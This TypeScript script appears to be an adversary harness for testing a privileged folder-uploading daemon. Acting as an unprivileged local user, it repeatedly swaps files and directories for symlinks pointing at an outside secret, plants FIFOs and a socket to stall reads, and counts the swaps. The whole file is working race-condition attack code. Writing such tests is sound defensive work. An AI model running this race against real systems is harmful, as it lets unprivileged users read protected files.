// A local user without rights who may write in a watched folder, and tries to have a privileged daemon upload what lies outside of
// it: `node attacker.ts FOLDER OUTSIDE MS`. Exchanges files and the directories above them for links, again and again, as
// fast as it can, and plants what would make a reader wait. Prints how many exchanges there were.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';

const [folder = '', outside = '', forMs] = process.argv.slice(2);
const secret = path.join(outside, 'secret');
const at = (...names: string[]) => path.join(folder, ...names);
let exchanges = 0;

/** Between a look and what is done upon it lie up to 20 ms. */
const hold = () => delay((exchanges * 97) % 31);

/** What stands at a place becomes something else at once, without a moment in which nothing stands there. */
async function exchange(place: string, make: (fresh: string) => void): Promise<void> {
  make(`${place}.fresh`);
  fs.renameSync(`${place}.fresh`, place);
  exchanges += 1;
  await hold();
}

async function exchangeFile(name: string): Promise<void> {
  await exchange(at(name), (fresh) => fs.writeFileSync(fresh, `honest ${exchanges}`));
  await exchange(at(name), (fresh) => fs.symlinkSync(secret, fresh));
}

/** A directory with a file of the same name as one outside. */
async function exchangeDirectory(name: string): Promise<void> {
  fs.writeFileSync(at(name, 'secret'), `honest ${exchanges}`);
  await hold();
  fs.renameSync(at(name), at(`${name}.away`));
  fs.symlinkSync(outside, at(name));
  exchanges += 1;
  await hold();
  fs.rmSync(at(name));
  fs.renameSync(at(`${name}.away`), at(name));
  await hold();
}

/** The kernel's protected_hardlinks forbids what may not be read. */
function linkHard(): void {
  try {
    fs.linkSync(secret, at('hard'));
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'EPERM') return;
    throw error;
  }
  throw new Error('the kernel let an unprivileged user link a file that it may not read');
}

linkHard();
for (let number = 0; number < 8; number++) execFileSync('mkfifo', [at(`pipe${number}`)]);
net.createServer().listen(at('socket')).unref();
fs.symlinkSync(secret, at('.s3ignore'));
const [files, directories] = [
  ['f0', 'f1', 'f2', 'f3'],
  ['d0', 'd1', 'd2', 'd3'],
];
for (const name of directories) fs.mkdirSync(at(name, 'deep'), { recursive: true });
const endAt = performance.now() + Number(forMs);
const untilTheEnd = async (act: () => Promise<void>) => {
  while (performance.now() < endAt) await act();
};
await Promise.all([
  ...files.map((name) => untilTheEnd(() => exchangeFile(name))),
  ...directories.map((name) => untilTheEnd(() => exchangeDirectory(name))),
]);
console.log(exchanges);
